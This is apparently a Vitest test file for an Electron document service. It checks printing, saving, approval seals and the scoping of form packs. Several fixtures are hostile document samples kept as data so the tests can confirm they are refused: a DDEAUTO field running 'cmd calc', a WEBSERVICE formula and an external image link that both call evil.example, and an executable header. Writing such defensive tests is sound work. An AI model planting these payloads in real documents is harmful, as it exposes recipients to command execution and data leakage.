import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeEach, describe, expect, onTestFinished, test, vi } from 'vitest';
import { failure, success, unwrap } from '@shared/problems/problem';
import { isOfPack } from '@shared/procedures/own-hand-over';
import { lookedAtCopies } from '../../../electron/documents/looked-at-copies';
import { mayLeaveBy } from '../../../electron/documents/may-leave';
import { PaperService } from '../../../electron/documents/paper-service';
import { aDocx, paragraph, run } from '../../builders/docx';
import { wordOfText } from '@shared/papers/word-of-text';
import { aPack, formInput } from '../../builders/pack';
import { anXlsx, row } from '../../builders/xlsx';
import { allPapers } from '../../support/all-papers';
import { jobsHere } from '../../support/jobs-here';
import { aDevice } from '../../builders/staff';
import { house } from '../../shared/procedures/house';

const chosen = vi.hoisted(() => ({ file: '' }));
vi.mock('electron', () => ({
  app: { getPath: () => '' },
  dialog: { showSaveDialog: () => Promise.resolve({ canceled: false, filePath: chosen.file }) },
  shell: {},
}));

const sound = { word: aDocx({ body: paragraph(run('本文')) }), excel: anXlsx() };
const sheet = (cell: string): Uint8Array => anXlsx({ sheets: [{ rows: row(1, cell) }] });
const dde = `<w:p><w:fldSimple w:instr="DDEAUTO cmd calc">${run('x')}</w:fldSimple></w:p>`;
/** What no form is taken with, and a page hands over all the same. */
const unsafe: readonly [string, Uint8Array][] = [
  [
    'a picture of the web',
    aDocx({ body: paragraph(run('本文')), documentRels: [['rId9', 'image', 'https://evil.example/?who', 'External']] }),
  ],
  ['a field that asks another program', aDocx({ body: dde })],
  ['a formula that asks the web', sheet('<c r="A1"><f>WEBSERVICE("https://evil.example")</f></c>')],
  ['a container that is cut off', sound.word.slice(0, -200)],
  ['a program in it', new TextEncoder().encode('MZ a program')],
];

const anyLeaves = () => Promise.resolve(success(null));

let printed: string[];
let papers: PaperService;
beforeEach(() => {
  printed = [];
  const print = ({ title }: { title: string }) => Promise.resolve(success({ cancelled: !printed.push(title) }));
  papers = new PaperService({} as never, jobsHere as never, { print } as never, {} as never, anyLeaves);
});

describe('a copy that the page hands over', () => {
  test('is printed as it is', async () => {
    for (const [title, bytes] of Object.entries(sound))
      expect(await papers.printCopy({ title, bytes })).toEqual({ ok: true, value: { cancelled: false } });
    expect(printed).toEqual(['word', 'excel']);
  });

  test.each(unsafe)('is printed by no program, and saved nowhere, with %s', async (name, bytes) => {
    const folder = mkdtempSync(join(tmpdir(), 'copies-'));
    onTestFinished(() => rmSync(folder, { recursive: true }));
    chosen.file = join(folder, 'copy.docx');
    const refused = { code: 'submission/copy-unsafe', message: expect.stringContaining(`「${name}」`) };
    expect(await papers.printCopy({ title: name, bytes: bytes as never })).toMatchObject(refused);
    expect(await papers.saveCopy({} as never, { name, bytes: bytes as never })).toMatchObject(refused);
    expect([printed, existsSync(chosen.file)]).toEqual([[], false]);
    expect((await papers.saveCopy({} as never, { name: '控え', bytes: sound.word as never })).ok).toBe(true);
    expect(new Uint8Array(readFileSync(chosen.file))).toEqual(sound.word);
  });

  test('counts as what we know, whatever a process says that it may have taken over', async () => {
    const copies = [{ name: 'a', bytes: sound.word }];
    for (const said of [['exe'], [{}], [], 'docx', null, [null]])
      expect(await lookedAtCopies({ run: () => Promise.resolve(success(said)) } as never, copies)).toMatchObject({
        code: 'submission/copy-unsafe',
      });
  });
});

test('a text of the office’s own is a Word file, and a PDF by the same way as a paper, looked at with its lines', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'texts-'));
  onTestFinished(() => rmSync(folder, { recursive: true }));
  const made: { title: string; bytes: Uint8Array }[] = [];
  const looked: unknown[] = [];
  const routes = {
    pdf: (order: { title: string; bytes: Uint8Array }) => {
      made.push(order);
      return Promise.resolve(success({ pdf: new TextEncoder().encode('%PDF'), by: 'own' }));
    },
    lookAt: (_pdfs: unknown, values: unknown[]) => {
      looked.push(...values);
      return Promise.resolve(success(null));
    },
  };
  papers = new PaperService({} as never, jobsHere as never, routes as never, {} as never, anyLeaves);
  const text = '報告\n1 概要';
  const word = wordOfText(text);
  const order = { name: '報告書の下書き', text, bytes: word as never };
  chosen.file = join(folder, '報告.docx');
  expect(await papers.saveText({} as never, { ...order, output: 'docx' })).toMatchObject({
    value: { name: '報告.docx', madeBy: null },
  });
  expect(new Uint8Array(readFileSync(chosen.file))).toEqual(word);
  expect(made).toEqual([]);
  chosen.file = join(folder, '報告.pdf');
  expect(await papers.saveText({} as never, { ...order, output: 'pdf' })).toMatchObject({ value: { madeBy: 'own' } });
  expect(readFileSync(chosen.file, 'utf8')).toBe('%PDF');
  expect(made).toEqual([{ title: '報告書の下書き', bytes: word }]);
  expect(looked).toEqual([
    { label: '1行目', shown: '報告' },
    { label: '2行目', shown: '1 概要' },
  ]);
  // What isn't a Word file that may leave comes out neither way.
  const program = { ...order, bytes: new TextEncoder().encode('MZ') as never };
  for (const output of ['docx', 'pdf'] as const)
    expect(await papers.saveText({} as never, { ...program, output })).toMatchObject({
      code: 'submission/copy-unsafe',
    });
  expect(await papers.saveText({} as never, { ...order, bytes: sound.excel as never, output: 'pdf' })).toMatchObject({
    code: 'submission/copy-unsafe',
  });
  expect(made).toHaveLength(1);
});

test.each(allPapers)('every paper that the app makes passes as a copy: %s', async (name, make) => {
  const { bytes } = await make();
  expect(await papers.looked([{ name, bytes }])).toMatchObject({ ok: true });
});

describe('確認してから出す', () => {
  const sheets = [{ fields: [{ path: 'name', value: '佐藤 健一', shown: '佐藤 健一' }], rows: {} }];
  const order = { packId: 'p', formId: 'f', context: {}, overrides: {}, about: '佐藤 健一', date: '2026-11-20' };
  /** @param sealed what 管理者 has approved */
  const service = (sealed: string | null, findings: unknown[] = []): PaperService => {
    const pack = aPack({ forms: [formInput({})] });
    const open = { pack, form: pack.forms[0], template: sound.word };
    const jobs = {
      run: () => Promise.resolve(success({ evaluation: { sheets, findings, callOuts: [] }, bytes: sound.word })),
    };
    const print = ({ title }: { title: string }) => Promise.resolve(success({ cancelled: !printed.push(title) }));
    const mayLeave = mayLeaveBy({
      mayLeave: (_digest, seal) =>
        Promise.resolve(sealed !== null && seal === sealed ? success(null) : failure('review/not-approved', {})),
    });
    return new PaperService(
      { open: () => Promise.resolve(success(open)) } as never,
      jobs as never,
      { print } as never,
      {} as never,
      mayLeave,
    );
  };

  test('a paper that nobody has approved is neither saved nor printed as a finished one', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'approved-'));
    onTestFinished(() => rmSync(folder, { recursive: true }));
    chosen.file = join(folder, 'a.docx');
    const refused = { code: 'review/not-approved' };
    const finished = { ...order, mode: 'finished', seal: 'made up', output: 'docx' } as const;
    expect(await service('word').save({} as never, finished)).toMatchObject(refused);
    expect(await service('word').print(finished)).toMatchObject(refused);
    expect([printed, existsSync(chosen.file)]).toEqual([[], false]);
    expect(await service('word').save({} as never, { ...finished, seal: 'word' })).toMatchObject({ ok: true });
    expect(await service('word').print({ ...finished, seal: 'word' })).toMatchObject({ ok: true });
    expect([printed.length, existsSync(chosen.file)]).toEqual([1, true]);
  });

  test('what lacks something is a draft, and leaves as one; what lacks nothing is none, whatever it is called', async () => {
    const draft = { ...order, mode: 'draft', seal: null } as const;
    expect(await service(null, [{ level: 'error', stage: 'fill' }]).print(draft)).toMatchObject({ ok: true });
    expect(await service(null).print(draft)).toMatchObject({ code: 'review/not-approved' });
    expect(await service(null, [{ level: 'warning', stage: 'fill' }]).print(draft)).toMatchObject({ ok: false });
  });
});

describe('a pack that was loaded', () => {
  const [ours, theirs] = [aPack({ id: 'ours' }), aPack({ id: 'theirs' })];
  const shelf = {
    open: (packId: string) =>
      Promise.resolve(success({ pack: ours, form: ours.forms[0], template: sound.word, owner: `${packId}’s` })),
    list: () =>
      Promise.resolve([
        { origin: 'profile', name: 'theirs', pack: success(theirs) },
        { origin: 'bundled', name: 'ours', pack: success(ours) },
        { origin: 'profile', name: 'unused', pack: success(aPack({ id: 'unused' })) },
      ]),
    ownerOf: ({ name }: { name: string }) => `${name}’s`,
  };
  const said = (packId: string, contacts: unknown[] = []) => ({
    ...{ packId, papers: [], contacts, isCovered: true, problem: null },
  });
  let done: [kind: string, owner: unknown][];
  const jobs = {
    run: ({ kind }: { kind: string }, owner?: unknown) => {
      done.push([kind, owner]);
      // It says something of another network, too.
      const networks = owner === 'ours’s' ? [said('ours', [{}])] : [said('theirs'), said('ours')];
      return Promise.resolve(success(kind === 'procedures' ? { networks } : { evaluation: { sheets: [] } }));
    },
  };
  const service = () => new PaperService(shelf as never, jobs as never, {} as never, {} as never, anyLeaves);
  beforeEach(() => void (done = []));

  test('is read where nobody else’s is', async () => {
    const order = { packId: 'theirs', formId: '1', context: {}, overrides: {} };
    await service().evaluate(order);
    await service().filledToLeave(order);
    expect(done).toEqual([
      ['evaluate', 'theirs’s'],
      ['fill', 'theirs’s'],
    ]);
  });

  test('says what its own network asks for, and nothing of another', async () => {
    const enrolments = [{ packId: 'ours' }, { packId: 'theirs' }];
    const run = await service().procedures({ event: {}, ledger: { enrolments }, today: '2026-11-20' } as never);
    expect(run).toEqual(success({ networks: [said('ours', [{}]), said('theirs')] }));
    expect(done).toEqual([
      ['procedures', 'theirs’s'],
      ['procedures', 'ours’s'],
    ]);
  });

  test('and once, after all of them, what the office itself has back from who leaves', async () => {
    const ledger = house();
    ledger.devices.push(aDevice({ id: 't', holderId: 'd1', officeId: 'day' }));
    const person = ledger.people.find(({ id }) => id === 'd1');
    const told = { kind: 'leave', date: '2026-11-30', officeId: 'day', staff: [person], before: {}, after: {} };
    const event = { ...told, lastAtWork: { d1: '2026-11-25' } };
    const run = await service().procedures({ event, ledger, today: '2026-11-20' } as never);
    const own = unwrap(run).networks.filter((one) => !isOfPack(one));
    expect(own).toHaveLength(1);
    // On the last day at work, as the wizard was told.
    const back = own[0]?.steps.filter(({ id, devices }) => id === 'keys' || devices?.ids.includes('t'));
    expect(back?.map(({ notBefore }) => notBefore)).toEqual(['2026-11-25', '2026-11-25']);
  });

  test('of forms that are no network’s asks those that are handed in then, wherever offices take part', async () => {
    const { network: _, ...ofNone } = aPack({ id: 'alone' });
    const upon = (event: string): object => ({ ...ofNone, schema: 3, procedures: [{ event }] });
    const asked = async (kind: string, ...packs: object[]): Promise<unknown[]> => {
      done = [];
      const list = () => Promise.resolve(packs.map((pack) => ({ name: 'alone', pack: success(pack) })));
      const service = new PaperService({ ...shelf, list } as never, jobs as never, {} as never, {} as never, anyLeaves);
      await service.procedures({
        event: { kind, staff: [] },
        ledger: { enrolments: [{ packId: 'ours' }], devices: [] },
      } as never);
      return done;
    };
    expect(await asked('leave', upon('leave'))).toHaveLength(1);
    expect(await asked('rename', upon('leave'))).toEqual([]);
    expect(await asked('leave', { ...upon('leave'), of: 'elsewhere' })).toEqual([]);
    expect(await asked('transfer', { ...upon('join'), of: 'ours' })).toHaveLength(1);
  });
});
